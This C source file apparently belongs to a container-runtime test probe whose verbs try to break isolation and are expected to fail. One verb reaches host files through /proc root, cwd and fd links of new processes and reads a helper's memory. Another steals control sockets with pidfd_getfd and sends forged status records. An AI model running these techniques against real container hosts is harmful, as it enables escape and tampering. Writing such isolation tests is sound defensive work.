/* The probe's verbs that attack the runtime's processes; they must not succeed. */
#define _GNU_SOURCE
#include "verbs.h"

#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

/* The namespace's newest pid: the last word of /proc/loadavg. */
static int newest_pid(void)
{
	char *text = read_text("/proc/loadavg");
	char *last = text ? strrchr(text, ' ') : NULL;
	int pid = last ? atoi(last) : 0;
	free(text);
	return pid;
}

static bool reaches(int pid, const char *way, const char *file)
{
	char path[4096];
	snprintf(path, sizeof(path), "/proc/%d/%s%s", pid, way, file);
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	close(fd);
	return fd >= 0;
}

/* Whether the process's cgroup, which anyone can read, contains this prefix. */
static bool is_below(int pid, const char *prefix)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/cgroup", pid);
	char *text = read_text(path);
	bool found = text && strstr(text, prefix);
	free(text);
	return found;
}

/*
 * steal STOP CANARY PREFIX: until the file STOP exists, tries to reach a host file through each new process in a
 * cgroup with this PREFIX, since others may start containers, too.
 * {"tried":N,"stolen":N,"read":N}: how often it succeeded, and how often it could read the memory of such a process
 * while that was the runtime's.
 */
void verb_steal(char **args)
{
	enum { RECENT = 6 };
	static const char *const ways[] = {"root", "cwd", "fd/3", "fd/4", "fd/5", "fd/6", "fd/7", "fd/8"};
	long tried = 0, stolen = 0, opened = 0;
	puts("{\"ready\":true}");
	fflush(stdout);
	int begin = newest_pid();
	while (access(args[0], F_OK) != 0) {
		int newest = newest_pid();
		for (int pid = newest; pid > begin && pid > newest - RECENT; pid--) {
			char comm[64], byte;
			if (!is_below(pid, args[2]))
				continue;
			tried++;
			for (size_t way = 0; way < sizeof(ways) / sizeof(ways[0]); way++)
				stolen += reaches(pid, ways[way], args[1]);
			/* The helper is linked to this address. */
			struct iovec own = {&byte, 1}, other = {(void *)0x400000, 1};
			if (process_vm_readv(pid, &own, 1, &other, 1, 0) != 1)
				continue;
			snprintf(comm, sizeof(comm), "/proc/%d/comm", pid);
			char *name = read_text(comm);
			opened += name && strncmp(name, "rt", 2) == 0;
			free(name);
		}
	}
	printf("{\"tried\":%ld,\"stolen\":%ld,\"read\":%ld}\n", tried, stolen, opened);
}

/* native/helper/record.h */
struct record {
	uint32_t kind, op, error, value, call_length, detail_length;
};

enum { FAILED = 1, FORKED = 6 };

static bool forge(int pidfd, int number, uint32_t pid, const char *what)
{
	int type = 0;
	socklen_t size = sizeof(type);
	int fd = (int)syscall(SYS_pidfd_getfd, pidfd, number, 0);
	bool sent = fd >= 0 && getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &size) == 0 && type == SOCK_SEQPACKET;
	struct record forked = {FORKED, 0, 0, pid, 0, 0}, failed = {FAILED, 0, 1, 0, 0, 0};
	if (sent && what[0] == 'h')
		return true;
	sent = sent && send(fd, &forked, sizeof(forked), MSG_NOSIGNAL) > 0;
	if (sent && what[0] == 'b')
		send(fd, &failed, sizeof(failed), MSG_NOSIGNAL);
	close(fd);
	return sent;
}

/*
 * forge STOP PID WHAT: until the file STOP exists, obtains the control socket of each new process. WHAT is forked, to
 * report that the process continues as PID; both, to also report that it failed; hold, to keep the socket silently.
 * {"sent":true} each time.
 */
void verb_forge(char **args)
{
	puts("{\"ready\":true}");
	fflush(stdout);
	int done = newest_pid();
	while (access(args[0], F_OK) != 0) {
		for (int pid = done + 1; pid <= newest_pid(); pid++) {
			int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
			for (int number = 3; pidfd >= 0 && number < 8; number++) {
				if (!forge(pidfd, number, (uint32_t)atoi(args[1]), args[2]))
					continue;
				puts("{\"sent\":true}");
				fflush(stdout);
				done = pid;
				break;
			}
			close(pidfd);
		}
	}
}
